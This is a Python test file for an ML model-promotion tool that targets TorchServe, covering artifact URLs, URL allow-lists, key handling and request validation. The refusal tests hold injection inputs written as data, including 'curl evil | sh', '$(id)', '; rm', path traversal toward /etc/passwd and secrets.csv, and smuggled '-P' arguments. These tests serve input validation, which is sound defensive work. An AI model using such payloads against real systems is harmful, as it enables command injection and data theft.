"""The remote production path's decisions: artifact URLs a server can fetch, allowed_urls
prefixes, keys given as a secret's content, server=attach, dispatch payloads, the round trip."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from servegate.artifact_urls import allowed_url_pattern, artifacts_prefix, fetch_url
from servegate.backends.torchserve.keys import KeyFile, StaticKeys
from servegate.config import PipelineConfig, TorchServeAttach, TorchServeSettings
from servegate.dispatch import validate_environment, validate_request
from servegate.errors import AuthError, ConfigError
from servegate.gates.network import probe

TRACKING = "http://mlflow.internal:5000"
KEYS = {"management": {"key": "mgmt-secret"}, "inference": {"key": "infer-secret"},
        "API": {"key": "api-secret"}}


@pytest.mark.parametrize(("uri", "url"), [
    ("mlflow-artifacts:/3/abc/artifacts/archive/digits.v2.mar",
     f"{TRACKING}/api/2.0/mlflow-artifacts/artifacts/3/abc/artifacts/archive/digits.v2.mar"),
    ("mlflow-artifacts://other:7000/3/abc/artifacts/a.mar",
     "http://other:7000/api/2.0/mlflow-artifacts/artifacts/3/abc/artifacts/a.mar"),
    ("https://store.example/x/a.mar", "https://store.example/x/a.mar"),
    ("s3://bucket/runs/a b.mar", "https://bucket.s3.amazonaws.com/runs/a%20b.mar"),
])
def test_a_server_fetches_archives_from_the_artifact_store_over_http(uri: str, url: str) -> None:
    assert fetch_url(uri, TRACKING) == url


def test_s3_behind_an_own_endpoint_and_local_stores_that_no_server_can_fetch() -> None:
    assert (fetch_url("s3://models/a.mar", TRACKING, "http://minio:9000/")
            == "http://minio:9000/models/a.mar")
    for local in ("file:///tmp/mlruns/1/a.mar", "/tmp/mlruns/a.mar"):
        with pytest.raises(ConfigError, match="SERVEGATE_TORCHSERVE_MODEL_STORE"):
            fetch_url(local, TRACKING)
    with pytest.raises(ConfigError, match="MLFLOW_TRACKING_URI"):
        fetch_url("mlflow-artifacts:/1/a.mar", "sqlite:///mlflow.db")


def test_allowed_urls_admit_archives_under_the_artifact_prefix_only() -> None:
    allowed = re.compile(allowed_url_pattern(artifacts_prefix(TRACKING)))
    base = f"{TRACKING}/api/2.0/mlflow-artifacts/artifacts/"
    assert allowed.fullmatch(base + "3/abc/artifacts/archive/digits.v2.mar")
    for refused in (base + "3/abc/../../../etc/x.mar", base + "3/a.mar?x=1", base + "3/a.txt",
                    "http://mlflow.internal:5000/other/a.mar", "http://evil/api/2.0/mlflow-artifacts/"
                    "artifacts/a.mar", "file:///etc/passwd", base.replace(".", "X") + "a.mar"):
        assert not allowed.fullmatch(refused), refused
    with pytest.raises(ConfigError):
        allowed_url_pattern("ftp://host/")


def test_the_generated_config_shows_how_a_remote_fed_server_is_limited(tmp_path: Path) -> None:
    from servegate.backends.torchserve.local import render_config

    settings = TorchServeSettings(workdir=tmp_path, token_expiration_min=600,
                                  allowed_url_prefixes=(artifacts_prefix(TRACKING),))
    ports = {"inference": 1, "management": 2, "metrics": 3, "grpc_inference": 4, "grpc_management": 5}
    text = render_config(settings, ports, tmp_path / "store")
    props = {k: re.sub(r"\\(.)", r"\1", v) for k, v in
             (line.split("=", 1) for line in text.splitlines() if line and not line.startswith("#"))}
    patterns = [re.compile(p) for p in props["allowed_urls"].split(",")]
    fits = [p for p in patterns if p.fullmatch(f"{artifacts_prefix(TRACKING)}1/r/artifacts/archive/m.v1.mar")]
    assert len(fits) == 1 and not any(p.fullmatch("file:///etc/passwd") for p in patterns)
    assert props["token_expiration_min"] == "600"


def test_keys_given_as_content_are_used_shown_as_a_variable_and_never_printed() -> None:
    keys = StaticKeys(json.dumps(KEYS), "SERVEGATE_TORCHSERVE_KEYS")
    assert keys.header("management") == {"Authorization": "Bearer mgmt-secret"}
    assert not keys.refreshable
    shell = keys.shell_expression("inference") or ""
    assert "SERVEGATE_TORCHSERVE_KEYS" in shell and "infer-secret" not in shell
    assert "secret" not in repr(keys)
    with pytest.raises(ConfigError, match="management"):
        StaticKeys(json.dumps({"inference": {"key": "x"}}), "K")
    with pytest.raises(AuthError, match="unreadable"):
        StaticKeys("{not json", "K")


def test_a_key_file_is_read_again_when_the_server_rotates_it(tmp_path: Path) -> None:
    path = tmp_path / "key_file.json"
    path.write_text(json.dumps(KEYS))
    keys = KeyFile(path)
    assert keys.refreshable and keys.key("inference") == "infer-secret"
    path.write_text(json.dumps(KEYS | {"inference": {"key": "rotated"}}))
    import os

    os.utime(path, (1, 1))
    assert keys.key("inference") == "rotated"
    assert str(path) in (keys.shell_expression("inference") or "")


def test_attach_settings_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    for var in ("MANAGEMENT_URL", "INFERENCE_URL", "KEYS", "KEY_FILE", "MODEL_STORE"):
        monkeypatch.delenv(f"SERVEGATE_TORCHSERVE_{var}", raising=False)
    assert TorchServeAttach.from_env() is None
    monkeypatch.setenv("SERVEGATE_TORCHSERVE_MANAGEMENT_URL", "http://ts:8081")
    with pytest.raises(ConfigError, match="INFERENCE_URL"):
        TorchServeAttach.from_env()
    monkeypatch.setenv("SERVEGATE_TORCHSERVE_INFERENCE_URL", "http://ts:8080")
    monkeypatch.setenv("SERVEGATE_TORCHSERVE_KEYS", json.dumps(KEYS))
    attach = TorchServeAttach.from_env()
    assert attach is not None and attach.model_store is None
    assert "mgmt-secret" not in repr(attach) and "mgmt-secret" not in str(attach.model_dump())


def test_server_attach_refuses_to_start_a_throwaway_server(monkeypatch: pytest.MonkeyPatch,
                                                          tmp_path: Path) -> None:
    from servegate.targets import get_target

    for var in ("MANAGEMENT_URL", "INFERENCE_URL", "KEYS", "KEY_FILE"):
        monkeypatch.delenv(f"SERVEGATE_TORCHSERVE_{var}", raising=False)
    monkeypatch.delenv("SERVEGATE_TFSERVING_URL", raising=False)
    monkeypatch.setenv("SERVEGATE_SERVER", "attach")
    for target in ("torchserve", "tfserving"):
        config = PipelineConfig(target=target, torchserve=TorchServeSettings(workdir=tmp_path))
        assert config.server == "attach"
        with pytest.raises(ConfigError, match="refusing to start a local"):
            get_target(target).open_backend(config)
    assert not (tmp_path / "server.json").exists()
    with pytest.raises(ValueError):
        PipelineConfig(server="remote")  # type: ignore[arg-type]


@pytest.mark.parametrize("payload", [
    {"MODEL": "models:/fraud/12"}, {"MODEL": "models:/fraud@candidate", "NAME": "fraud"},
    {"MODEL": "runs:/0123456789abcdef0123456789abcdef/model", "NAME": "churn"},
    {"MODEL": "builtin:digits", "EVAL_DATA": "runs:/0123456789abcdef0123456789abcdef/eval/x.parquet",
     "TASK": "classification", "TARGET": "tfserving", "COMPILER": "onnx,eager", "P95_MS": "120.5"},
    {"MODEL": "models:/fraud/3", "EVAL_DATA": "data/holdout.csv"},
])
def test_valid_promotion_requests_pass(payload: dict[str, str]) -> None:
    assert validate_request(payload) == []


@pytest.mark.parametrize(("payload", "problem"), [
    ({"MODEL": "builtin:digits; curl evil | sh"}, "model"),
    ({"MODEL": "/etc/passwd"}, "model"),
    ({"MODEL": "models:/fraud/3", "NAME": "other"}, "registered as 'fraud'"),
    ({"MODEL": "models:/fraud/3", "NAME": "$(id)"}, "invalid model name"),
    ({"MODEL": "models:/fraud/3", "EVAL_DATA": "../../secrets.csv"}, "eval_data"),
    ({"MODEL": "models:/fraud/3", "EVAL_DATA": "a.csv -P promote=false"}, "eval_data"),
    ({"MODEL": "models:/fraud/3", "TASK": "summarise"}, "task"),
    ({"MODEL": "models:/fraud/3", "TARGET": "triton"}, "target"),
    ({"MODEL": "models:/fraud/3", "P95_MS": "1e9; rm"}, "p95_ms"),
    ({"MODEL": "models:/fraud/3", "COMPILER": "auto -P x=1"}, "compiler"),
])
def test_malformed_promotion_requests_are_refused(payload: dict[str, str], problem: str) -> None:
    problems = validate_request(payload)
    assert problems and any(problem in p for p in problems), problems


def test_an_attached_workflow_run_needs_a_remote_registry_and_its_server() -> None:
    env = {"SERVEGATE_SERVER": "attach", "MODEL": "models:/m/1", "TARGET": "torchserve"}
    problems = " ".join(validate_environment(env))
    assert "MLFLOW_TRACKING_URI" in problems and "MANAGEMENT_URL" in problems
    env |= {"MLFLOW_TRACKING_URI": "https://mlflow", "SERVEGATE_TORCHSERVE_MANAGEMENT_URL": "http://a",
            "SERVEGATE_TORCHSERVE_INFERENCE_URL": "http://b", "SERVEGATE_TORCHSERVE_KEYS": "{}"}
    assert validate_environment(env) == []
    assert validate_environment({"MODEL": "builtin:digits"}) == []  # not attached: nothing to check


def test_the_round_trip_probe_times_each_ping_and_warns_when_it_eats_the_slo() -> None:
    import time

    calls = []

    def slow_ping() -> bool:
        calls.append(1)
        time.sleep(0.02)
        return True

    measured = probe(slow_ping, "http://far.example:8080", samples=5)
    assert len(calls) == 6  # one warm-up
    assert 15 < measured.rtt_min_ms <= measured.rtt_p50_ms <= measured.rtt_p95_ms
    assert measured.target == "far.example:8080" and measured.origin
    assert measured.note(p95_slo_ms=40) and not measured.note(p95_slo_ms=1000)
